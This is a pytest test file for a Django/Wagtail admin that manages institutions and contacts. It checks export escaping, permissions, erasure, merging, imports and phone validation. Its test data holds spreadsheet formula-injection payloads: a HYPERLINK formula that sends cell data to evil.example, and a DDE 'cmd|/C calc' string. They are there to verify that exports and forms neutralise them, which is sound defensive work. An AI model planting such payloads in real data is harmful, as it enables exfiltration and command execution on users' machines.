import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaign.core.services import DISSEMINATION_STAFF, FIELD_TEAM, roles_sync
from campaign.institutions.models import Contact, ImportRun, Institution, PersonalDataLog
from campaign.institutions.services import contacts_merge, institutions_import
from tests.factories import ContactFactory, InstitutionFactory, UserFactory

pytestmark = pytest.mark.django_db

INSTITUTIONS = reverse("wagtailsnippets_institutions_institution:list")
CONTACTS = reverse("wagtailsnippets_institutions_contact:list")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-3+4", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.fixture
def staff(client):
    user = UserFactory(groups=[roles_sync()[DISSEMINATION_STAFF]])
    client.force_login(user)
    return user


@pytest.fixture
def field_member(client):
    user = UserFactory(groups=[roles_sync()[FIELD_TEAM]])
    client.force_login(user)
    return user


def test_contact_csv_export_escapes_formulas_but_not_phone_numbers(client, staff):
    for text in HOSTILE:
        ContactFactory(name=text, position=text)

    response = client.get(CONTACTS + "?export=csv")

    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + text for text in HOSTILE}
    phones = {row[5] for row in rows[1:]}
    assert all(phone.startswith("+628") for phone in phones)  # typed column: left alone
    log = PersonalDataLog.objects.get(action="export", model="contact")
    assert (log.user, log.row_count) == (staff, len(HOSTILE))


def test_contact_xlsx_export_keeps_formulas_as_text_cells(client, staff):
    for text in HOSTILE:
        ContactFactory(name=text)

    response = client.get(CONTACTS + "?export=xlsx")

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML turns a lone CR into LF; the text is otherwise exactly what was stored.
    assert {cell.value for cell in cells} == {text.replace("\r", "\n") for text in HOSTILE}
    assert {cell.data_type for cell in cells} == {"s"}  # never "f" (formula)
    assert PersonalDataLog.objects.filter(action="export", model="contact").count() == 1


def test_field_team_cannot_export_and_sees_no_export_buttons(client, field_member):
    ContactFactory()
    listing = client.get(CONTACTS)
    assert listing.status_code == 200
    assert "export=csv" not in listing.content.decode()
    assert client.get(CONTACTS + "?export=csv").status_code == 302
    assert not PersonalDataLog.objects.exists()


# Role × view → expected status. 302 for anonymous is the login redirect; Wagtail
# answers a signed-in user without permission with a redirect to the dashboard.
@pytest.mark.parametrize(
    ("role", "view", "expected"),
    [
        (None, "list", 302),
        (None, "import", 302),
        (FIELD_TEAM, "list", 200),
        (FIELD_TEAM, "inspect", 200),
        (FIELD_TEAM, "contacts", 200),
        (FIELD_TEAM, "edit", 302),
        (FIELD_TEAM, "delete", 302),
        (FIELD_TEAM, "import", 302),
        (FIELD_TEAM, "duplicates", 302),
        (FIELD_TEAM, "erase", 302),
        (DISSEMINATION_STAFF, "list", 200),
        (DISSEMINATION_STAFF, "inspect", 200),
        (DISSEMINATION_STAFF, "edit", 200),
        (DISSEMINATION_STAFF, "delete", 200),
        (DISSEMINATION_STAFF, "import", 200),
        (DISSEMINATION_STAFF, "duplicates", 200),
        (DISSEMINATION_STAFF, "erase", 200),
    ],
)
def test_permission_matrix(client, role, view, expected):
    contact = ContactFactory()
    institution = contact.institution
    if role:
        client.force_login(UserFactory(groups=[roles_sync()[role]]))
    urls = {
        "list": INSTITUTIONS,
        "inspect": reverse("wagtailsnippets_institutions_institution:inspect", args=[institution.pk]),
        "edit": reverse("wagtailsnippets_institutions_institution:edit", args=[institution.pk]),
        "delete": reverse("wagtailsnippets_institutions_institution:delete", args=[institution.pk]),
        "contacts": CONTACTS,
        "import": reverse("institutions_import"),
        "duplicates": reverse("institutions_contact_duplicates"),
        "erase": reverse("institutions_contact_erase", args=[contact.pk]),
    }
    assert client.get(urls[view]).status_code == expected


def test_institution_list_uses_a_bounded_number_of_queries(client, staff, django_assert_max_num_queries):
    InstitutionFactory.create_batch(5)
    with django_assert_max_num_queries(40) as few:
        assert client.get(INSTITUTIONS).status_code == 200
    InstitutionFactory.create_batch(45)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(INSTITUTIONS)
    assert response.status_code == 200
    assert response.content.decode().count("Dinas Contoh") >= 50


def test_inspect_view_lists_the_institution_contacts(client, staff):
    contact = ContactFactory(name="Agnes Tefa", email="agnes@example.org")
    url = reverse("wagtailsnippets_institutions_institution:inspect", args=[contact.institution.pk])
    html = client.get(url).content.decode()
    assert "Agnes Tefa" in html and "agnes@example.org" in html


def test_erase_asks_first_then_removes_the_person_everywhere(client, staff):
    contact = ContactFactory(name="Agnes Tefa", email="agnes@example.org", phone="+6281234567891")
    url = reverse("institutions_contact_erase", args=[contact.pk])

    assert client.get(url).status_code == 200
    contact.refresh_from_db()
    assert contact.name == "Agnes Tefa"  # GET changed nothing

    client.post(url)

    contact.refresh_from_db()
    assert (contact.email, contact.phone, contact.position) == ("", "", "")
    assert "Agnes" not in contact.name and contact.is_erased and contact.opted_out_at
    from wagtail.models import ModelLogEntry

    labels = ModelLogEntry.objects.filter(object_id=str(contact.pk)).values_list("label", flat=True)
    assert labels and not any("Agnes" in label for label in labels)
    assert PersonalDataLog.objects.filter(action="erase").count() == 1


def test_duplicates_are_listed_and_merged(client, staff):
    older = ContactFactory(email="Sama@Example.org", phone="+6281234500001", position="")
    newer = ContactFactory(email="sama@example.org", phone="+6281234500002", position="Kabag")
    ContactFactory(email="lain@example.org")

    page = client.get(reverse("institutions_contact_duplicates")).content.decode()
    assert page.count('name="group"') == 2

    client.post(
        reverse("institutions_contact_duplicates"),
        {"group": [older.pk, newer.pk], "keep": older.pk},
    )
    older.refresh_from_db()
    assert not Contact.objects.filter(pk=newer.pk).exists()
    assert older.position == "Kabag"  # filled from the merged duplicate
    assert Contact.objects.count() == 2


def test_merge_keeps_an_opt_out():
    keep = ContactFactory()
    other = ContactFactory(opted_out_at="2020-03-01T10:00:00+08:00")
    merged = contacts_merge(keep=keep, others=[other])
    assert merged.opted_out_at is not None


def _upload(client, content, name="daftar.csv"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        reverse("institutions_import"),
        {
            "file": SimpleUploadedFile(name, content, content_type="text/csv"),
            "source": "Setda Kota Kupang",
            "lawful_basis": "public_task",
        },
    )


def test_admin_import_preview_shows_errors_and_writes_nothing(client, staff, regions):
    response = _upload(client, b"nama,jenis,kode_wilayah\nKantor A,Swasta,5371\n,Swasta,9999\n")
    run = ImportRun.objects.get()
    assert response["Location"] == reverse("institutions_import_run", args=[run.pk])
    html = client.get(response["Location"]).content.decode()
    assert run.status == "invalid"
    assert "<td>3</td><td><code>name</code></td>" in html
    assert "Nama tidak diisi." in html  # Indonesian by default
    assert not Institution.objects.exists()


def test_admin_import_preview_then_confirm(client, staff, regions):
    response = _upload(
        client, b"nama,jenis,kode_wilayah,email_kontak,nama_kontak\nKantor A,Swasta,5371,a@example.org,Ina\n"
    )
    run = ImportRun.objects.get()
    assert run.status == "valid" and not Institution.objects.exists()

    client.post(response["Location"])

    run.refresh_from_db()
    assert run.status == "done" and run.content == b""  # upload not kept after import
    assert Institution.objects.get().contacts.get().consent_source == "Setda Kota Kupang"
    # A second confirmation cannot import twice.
    client.post(response["Location"])
    assert Institution.objects.count() == 1


def test_large_import_runs_as_a_task_with_progress(
    client, staff, regions, django_capture_on_commit_callbacks
):
    rows = "".join(f"Kantor {n},Swasta,5371\n" for n in range(2_500))
    with django_capture_on_commit_callbacks(execute=True) as enqueued:
        response = _upload(client, ("nama,jenis,kode_wilayah\n" + rows).encode())
    assert len(enqueued) == 1  # handed to the task backend after the upload committed
    run = ImportRun.objects.get()
    # The immediate task backend ran the check already; with a worker it runs later.
    assert (run.status, run.total_rows, run.processed_rows) == ("valid", 2_500, 2_500)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response["Location"])
    assert Institution.objects.count() == 2_500


def test_template_downloads(client, staff, regions):
    xlsx = client.get(reverse("institutions_import_template", args=["xlsx"]))
    result = institutions_import(content=xlsx.content, filename="t.xlsx", source="t", dry_run=True)
    assert result.ok and result.created == 1  # the template's example row is importable
    csv_response = client.get(reverse("institutions_import_template", args=["csv"]))
    # Excel's BOM, then every field quoted by the formula-safe writer.
    assert csv_response.content.startswith(b'\xef\xbb\xbf"external_id","name","kind"')


def test_inspect_shows_times_in_wita(client, staff):
    institution = InstitutionFactory()
    Institution.objects.filter(pk=institution.pk).update(created_at="2020-03-02T01:30:00+00:00")
    url = reverse("wagtailsnippets_institutions_institution:inspect", args=[institution.pk])
    html = client.get(url).content.decode()
    assert "2 Maret 2020, 9.30" in html  # 01:30 UTC is 09:30 WITA


def test_admin_search_finds_imported_institutions(client, staff, regions):
    institutions_import(
        content=b"nama,jenis,kode_wilayah\nPoliteknik Negeri Kupang,Lembaga Pendidikan,5371020\n",
        filename="a.csv",
        source="t",
    )
    InstitutionFactory(name="Dinas Lain")
    html = client.get(INSTITUTIONS + "?q=politeknik").content.decode()
    assert "Politeknik Negeri Kupang" in html and "Dinas Lain" not in html


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("+1+cmd|' /C calc'!A0", None),  # refused: not a phone number, and no formula reaches an export
        ("=HYPERLINK(1)", None),
        ("0812-3456-7890", "+6281234567890"),
        ("+62 812 3456 7890", "+6281234567890"),
    ],
)
def test_a_phone_typed_in_the_admin_form_is_stored_as_e164_or_refused(client, staff, typed, stored):
    """The admin's generic form saves through the model field, which holds the E.164 rule
    for every path (issue 18: it used to store the hostile value as typed)."""
    institution = InstitutionFactory(name="Dinas Uji Telepon")
    response = client.post(
        reverse("wagtailsnippets_institutions_contact:add"),
        {
            "institution": institution.pk,
            "name": "Agnes Tefa",
            "phone": typed,
            "preferred_language": "id",
            "purpose": "Sosialisasi",
            "consent_source": "Surat dinas",
            "lawful_basis": "public_task",
            "consent_date": "2026-11-20",
        },
    )
    contact = Contact.objects.filter(name="Agnes Tefa").first()
    if stored is None:
        assert response.status_code == 200 and contact is None
        assert "Nomor telepon tidak sah." in response.content.decode()
        return
    assert response.status_code == 302, response.content.decode()[:2000]
    assert contact.phone == stored
    exported = client.get(CONTACTS + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode("utf-8-sig"), newline="")))
    assert any(stored in row for row in rows)
    assert not any(cell.startswith(("=", "+1+", "@")) for row in rows for cell in row)


def test_every_admin_form_of_a_model_with_a_service_saves_through_it():
    """The admin's add, copy and edit views of these models are ``ServiceSaveMixin`` views
    (issue 18): a ViewSet added later without ``save_service`` fails here."""
    from campaign.core.viewsets import ServiceSaveMixin
    from campaign.institutions.models import Assignment, CoordinationMeeting, GuidedSession
    from campaign.invitations.models import Audience, Batch, EmailTemplate

    for model in (
        Contact,
        Institution,
        GuidedSession,
        Assignment,
        CoordinationMeeting,
        Batch,
        Audience,
        EmailTemplate,
    ):
        viewset = model.snippet_viewset
        assert viewset.save_service is not None, model
        for view in (viewset.add_view, viewset.edit_view, viewset.copy_view):
            assert issubclass(view.__wrapped__.view_class, ServiceSaveMixin), (model, view)


def test_a_contact_edited_in_the_admin_goes_through_contact_save(client, staff):
    """``contact_save``'s rules hold on the admin's edit form: the address is stored in
    lower case (the suppression list and the duplicates match on it) and the edit is
    logged once."""
    from wagtail.models import ModelLogEntry

    contact = ContactFactory(name="Agnes Tefa")
    response = client.post(
        reverse("wagtailsnippets_institutions_contact:edit", args=[contact.pk]),
        {
            "institution": contact.institution_id,
            "name": "Agnes Tefa",
            "email": "Agnes.Tefa@Dinas.Example.ID",
            "phone": "0812-3456-7890",
            "preferred_language": "id",
            "purpose": "Sosialisasi",
            "consent_source": "Surat dinas",
            "lawful_basis": "public_task",
            "consent_date": "2020-02-01",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    contact.refresh_from_db()
    assert (contact.email, contact.phone) == ("agnes.tefa@dinas.example.id", "+6281234567890")
    edits = ModelLogEntry.objects.filter(object_id=str(contact.pk), action="wagtail.edit")
    assert edits.count() == 1
